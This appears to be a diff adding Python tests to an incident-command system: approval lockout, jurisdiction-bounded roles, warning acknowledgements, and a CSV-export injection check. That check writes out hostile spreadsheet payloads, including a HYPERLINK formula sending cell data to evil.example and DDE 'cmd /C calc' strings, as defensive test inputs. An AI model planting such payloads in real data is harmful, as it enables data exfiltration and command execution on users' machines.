@@ -300,3 +300,202 @@ def test_a_district_admin_acts_only_on_accounts_of_its_own_district(world):  # t
         assert str(caught.value) == f"user {name!r}: not found in jurisdiction 'pudong'"
     with world.store.read() as session:
         assert all(u.active for u in session.scalars(select(User)))
+
+
+def test_a_mistyped_approval_password_never_locks_the_only_approver_out(world, incident):
+    """The incident's only approver mistypes their password at approval ten times from their desk: the desk waits
+    (each refusal audited), the account never locks, and they approve once the wait is over. When failures from
+    elsewhere do lock the account, an admin over it unlocks it (audited) and the approval goes through (issue 21,
+    item 11)."""
+    from command.errors import AccountLocked
+    from command.security import authenticate
+    from command.users import unlock_user
+
+    _, pid, _ = incident
+    holder = world["cmd_pudong"]
+    shown = view_plan(world.store, holder, pid).shown()
+    for _ in range(10):
+        with pytest.raises(AuthFailed) as failed:
+            approve_plan(world.store, holder, pid, password="fat fingers!", shown=shown, source="desk")
+        assert not isinstance(failed.value, AccountLocked)
+        world.clock.advance(seconds=failed.value.wait_s or 0)
+    waits = [e for e in audit.entries(world.store) if e.subject == "cmd_pudong" and e.action == "login_failed"]
+    assert len(waits) == 10 and sum('"wait_until"' in e.details for e in waits) == 8
+    approve_plan(world.store, holder, pid, password=PASSWORD, shown=shown, source="desk")
+    assert view_plan(world.store, world["admin"], pid).status == "approved"
+
+    second = create_plan(world.store, world["planner"], incident[0], tiny_plan(incident[2], count=7))
+    for source in ("elsewhere", "elsewhere", "another place"):
+        with pytest.raises(AuthFailed):
+            authenticate(world.store, "cmd_pudong", "a guess at it", source=source)
+    shown = view_plan(world.store, holder, second).shown()
+    with pytest.raises(AccountLocked, match="an admin can unlock it"):
+        approve_plan(world.store, holder, second, password=PASSWORD, shown=shown, source="desk")
+    unlock_user(world.store, world["admin"], "cmd_pudong", reason="locked by guesses from elsewhere")
+    assert audit.entries(world.store)[-1].action == "user_update"
+    approve_plan(world.store, holder, second, password=PASSWORD, shown=shown, source="desk")
+    assert view_plan(world.store, world["admin"], second).status == "approved"
+
+
+def test_role_changes_are_bounded_by_jurisdiction_and_by_command_held(world, incident):
+    """A Pudong admin makes a Pudong observer a planner (audited, with the role before), but never changes a
+    city-level or another district's account, nor their own; the incident's holder keeps their role until the
+    grant is revoked; an unknown role is named."""
+    from command.security import authenticate
+    from command.store import User
+    from command.users import add_user, set_role
+
+    iid, _, _ = incident
+    add_user(world.store, world["admin"], username="pd_admin", password=PASSWORD, role="admin", jurisdiction="pudong")
+    pd_admin = authenticate(world.store, "pd_admin", PASSWORD)
+    set_role(world.store, pd_admin, "obs_pudong", "planner", reason="joins the planning cell")
+    entry = audit.entries(world.store)[-1]
+    assert (entry.action, entry.actor, entry.subject) == ("user_update", "pd_admin", "obs_pudong")
+    details = json.loads(entry.details)
+    assert set(details.pop("rows")) == {f"users:{details_id(world, 'obs_pudong')}"}  # the row's hash, bound (audit)
+    assert details == {"role": "planner", "role_before": "observer", "reason": "joins the planning cell"}
+    assert authenticate(world.store, "obs_pudong", PASSWORD).role == "planner"
+    for name in ("planner", "obs_xuhui", "admin", "ghost"):
+        with pytest.raises(NotFound, match=f"user '{name}': not found in jurisdiction 'pudong'"):
+            set_role(world.store, pd_admin, name, "observer")
+    with pytest.raises(BadInput, match="own role"):
+        set_role(world.store, pd_admin, "pd_admin", "observer")
+    with pytest.raises(BadInput, match="'chief' is not one of"):
+        set_role(world.store, pd_admin, "cmd_pudong2", "chief")
+    with pytest.raises(NotAuthorised):
+        set_role(world.store, world["cmd_city"], "obs_pudong", "observer")
+    with pytest.raises(Conflict, match=f"holds command of incident {iid}"):
+        set_role(world.store, pd_admin, "cmd_pudong", "observer")
+    revoke_command(world.store, world["admin"], iid, reason="stood down")
+    set_role(world.store, pd_admin, "cmd_pudong", "observer")
+    with world.store.read() as session:
+        roles = dict(session.execute(select(User.username, User.role)).all())
+    assert (roles["cmd_pudong"], roles["planner"], roles["obs_xuhui"]) == ("observer", "planner", "observer")
+
+
+def test_paperwork_csv_from_hostile_text_holds_no_formula(world):
+    """An incident titled like a formula, a commander whose display name is one, a roster of them, formula-like
+    grant, rejection and approval reasons: every cell of the exported CSVs reads as text to a spreadsheet (a
+    leading quote where it would start a formula), and the title is there whole after its quote."""
+    import csv
+    import io
+
+    from command.incidents import RosterRow, import_roster
+    from command.paperwork import forms
+    from command.security import authenticate
+    from command.users import add_user
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    scenario = tiny_scenario()
+    add_user(world.store, world["admin"], username="cmd_evil", password=PASSWORD, role="commander",
+             jurisdiction="pudong", display_name="@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
+    holder = authenticate(world.store, "cmd_evil", PASSWORD)
+    iid = open_incident(world.store, world["admin"], scenario, jurisdiction="pudong", title=title)
+    grant_command(world.store, world["admin"], iid, "cmd_evil", hours=8, reason="+1+1")
+    import_roster(world.store, world["admin"], iid, [RosterRow("local", "-2+3+cmd|' /C calc'!A0", "+86 138 0000 0001",
+                                                               "leader")])  # fmt: skip
+    first = create_plan(world.store, world["planner"], iid, tiny_plan(scenario), scenario=scenario)
+    reject_plan(world.store, holder, first, password=PASSWORD, reason="=1+1",
+                shown=view_plan(world.store, holder, first).shown())  # fmt: skip
+    second = create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=7), scenario=scenario)
+    approve_plan(world.store, holder, second, password=PASSWORD, note="\t=cmd",
+                 shown=view_plan(world.store, holder, second).shown())  # fmt: skip
+    contents, _, _ = forms(world.store, holder, second)
+    tables = {name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in contents.items()
+              if name.endswith(".csv")}  # fmt: skip
+    # The assignment lists and the log; the plan carried no warnings, so their CSV holds its header only.
+    assert len(tables) == 3 and all(rows for name, rows in tables.items() if not name.endswith("_warnings.csv"))
+    formula = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+    for rows in tables.values():
+        for row in rows:
+            assert not any(v.lstrip(" \t\r\n\u3000").startswith(formula) or v.startswith(formula)
+                           for v in row.values()), row  # fmt: skip
+            assert row["incident_name"] == "'" + title
+    (leader,) = {r["leader_name"] for rows in tables.values() for r in rows if r.get("team") == "local"}
+    assert leader == "'-2+3+cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def warned(world):
+    """A Pudong incident whose plan carries three warnings: six testers where the default plan has eight make the
+    mean wait worse and cross both thresholds (a 30-minute wait; untested at the target finish time), as the
+    simulation of both plans on the incident's seed says. Command is granted to cmd_pudong."""
+    from store_support import DATA
+
+    from command.plans import forecast_plan
+    from scenarios import load_scenario
+
+    scenario = load_scenario(DATA / "one_site_mmc.yaml",
+                             overrides=["thresholds.max_wait_s=1800", "thresholds.target_finish_s=30000"])  # fmt: skip
+    iid = open_incident(world.store, world["admin"], scenario, jurisdiction="pudong", seed=scenario.seed)
+    grant_command(world.store, world["admin"], iid, "cmd_pudong", hours=8)
+    plan = tiny_plan(scenario, count=6)
+    pid = create_plan(world.store, world["planner"], iid, plan, scenario=scenario,
+                      forecast=forecast_plan(scenario, plan, seed=scenario.seed))  # fmt: skip
+    return iid, pid
+
+
+def test_approving_a_plan_with_warnings_needs_each_acknowledged(world, warned):
+    """Without acknowledgements, or with some missing, the approval is refused listing each warning left, and
+    nothing changes; an unknown number or key is named; with each acknowledged (by number or key) the plan is
+    approved and in effect at once, and the decision row and its audit entry record which were acknowledged (issue
+    18: a commander approving a plan with warnings acknowledges each)."""
+    from command.errors import Unacknowledged
+
+    _, pid = warned
+    holder = world["cmd_pudong"]
+    view = view_plan(world.store, holder, pid)
+    keys = [w.key for w in view.warnings]
+    assert [w.kind for w in view.warnings] == ["worse", "breach", "breach"]
+    assert keys[0] == "worse:mean_wait_min" and len(set(keys)) == 3
+    before = len(audit.entries(world.store))
+    with pytest.raises(Unacknowledged) as none:
+        approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(), activate=True)
+    lines = str(none.value).splitlines()
+    assert lines[0] == f"plan {pid} version 1: 3 of its 3 warnings not acknowledged; read each and acknowledge it " \
+                       "by number or key:"
+    assert lines[1:] == [f"[{w.number}] {w.key}: {w.message}" for w in view.warnings]
+    with pytest.raises(Unacknowledged) as some:
+        approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(), acknowledged=[1, keys[2]])
+    assert [w.number for w in some.value.warnings] == [2]
+    with pytest.raises(BadInput, match=r"acknowledged: '4', 'worse:max_queue' not among plan \d+ version 1's "
+                                       r"warnings \(it has warnings 1-3\)"):  # fmt: skip
+        approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(),
+                     acknowledged=[1, 2, 3, 4, "worse:max_queue"])  # fmt: skip
+    assert view_plan(world.store, world["admin"], pid).status == "proposed"
+    assert {e.action for e in audit.entries(world.store)[before:]} == {"login"}  # the password checks only
+
+    approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(), activate=True,
+                 acknowledged=["1", keys[1], 3])  # fmt: skip
+    after = view_plan(world.store, world["admin"], pid)
+    assert after.status == "active"
+    (decision,) = after.decisions
+    assert [(w["number"], w["key"], w["message"]) for w in decision.acknowledged] == [
+        (w.number, w.key, w.message) for w in view.warnings]
+    entry = next(e for e in reversed(audit.entries(world.store)) if e.action == "plan_approve")
+    assert json.loads(entry.details)["acknowledged"] == keys
+    with world.store.read() as session:
+        row = session.scalars(select(Decision).where(Decision.plan_id == pid)).one()
+    assert [w["key"] for w in json.loads(row.acknowledged_json)] == keys
+
+
+def test_a_plan_without_warnings_needs_no_acknowledgement_and_takes_none(world, incident):
+    """A plan whose forecast carries no warning is approved as before; acknowledging one it does not have is
+    refused, naming it."""
+    _, pid, _ = incident
+    view = view_plan(world.store, world["cmd_pudong"], pid)
+    assert view.warnings == ()
+    with pytest.raises(BadInput, match=r"'1' not among .* warnings \(it has no warnings\)"):
+        approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=view.shown(), acknowledged=[1])
+    approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=view.shown())
+    assert view_plan(world.store, world["admin"], pid).decisions[0].acknowledged == ()
+
+
+def details_id(world, username: str) -> int:  # type: ignore[no-untyped-def]
+    """A user's row id."""
+    from sqlalchemy import select
+
+    from command.store import User
+
+    with world.store.read() as session:
+        return int(session.scalar(select(User.id).where(User.username == username)))
